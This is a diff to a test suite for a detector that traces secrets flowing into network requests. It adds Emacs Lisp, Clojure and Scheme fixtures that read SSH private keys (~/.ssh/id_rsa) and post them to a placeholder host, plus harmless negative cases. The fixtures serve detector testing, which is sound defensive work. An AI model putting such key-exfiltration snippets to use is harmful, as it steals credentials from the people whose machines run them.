@@ -180,6 +180,25 @@ describe("a secret that reaches a request is a flow", () => {
         `os.execute(string.format("curl -d '%s' ${TAKE}", key))`,
       ],
     ],
+    [
+      "a.el",
+      "ssh",
+      [
+        `(let ((key (with-temp-buffer (insert-file-contents "~/.ssh/id_rsa") (buffer-string)))) ; the "key`,
+        `  (url-retrieve (concat "${TAKE}?k=" key) #'ignore))`,
+      ],
+    ],
+    [
+      "a.el",
+      "ssh",
+      [`(setq key (shell-command-to-string "cat ~/.ssh/id_rsa"))`, `(url-retrieve (concat "${TAKE}" key))`],
+    ],
+    ["a.clj", "ssh", [`(let [key (slurp "/root/.ssh/id_rsa")]`, `  (client/post "${TAKE}" {:body key}))`]],
+    [
+      "a.scm",
+      "ssh",
+      [`(define key (call-with-input-file "/root/.ssh/id_rsa" f))`, `(http-post "${TAKE}" key)`],
+    ],
     ["a.exs", "ssh", [`"/root/.ssh/id_rsa" |> File.read!() |> then(&HTTPoison.post("${TAKE}", &1))`]],
   ])("%s: %s of %j", (file, secret, lines) => {
     expect(trace(file, ...lines)).toContain(`${secret} to take.test`);
@@ -254,6 +273,8 @@ describe("ordinary programs give no flow", () => {
     ],
     ["a.pl", [`push @rings, "$ENV{HOME}/.gnupg/trustedkeys.gpg";`]],
     ["a.lua", [`local size = #list -- eval(get("${LOAD}"))`, "return load"]],
+    ["a.clj", [`(def page (slurp "${LOAD}"))`, "(println page)"]],
+    ["a.el", [`; (eval (url-retrieve "${LOAD}"))`, `#| (eval (url-retrieve "${LOAD}")) |#`]],
     ["a.rb", [`key = ENV["HOME"]`, `Net::HTTP.post(URI("${TAKE}"), key)`]],
   ])("%s: %j", (file, lines) => {
     expect(trace(file, ...lines)).toEqual([]);
@@ -276,6 +297,8 @@ test("no text makes it throw", () => {
     "\n",
   ])
     expect(trace("a.rb", `eval x\n${piece.repeat(20_000)}`)).toEqual([]);
+  for (const piece of ["(", "(let ((", "#|", `"\\`, "(a ", ")", "[a"])
+    expect(trace("a.el", `(eval x)\n${piece.repeat(200_000)}`)).toEqual([]);
   fc.assert(
     fc.property(fc.string({ unit: "binary" }), (text) => {
       expect(Array.isArray(trace("a.php", `eval(x)\n${text}`))).toBe(true);
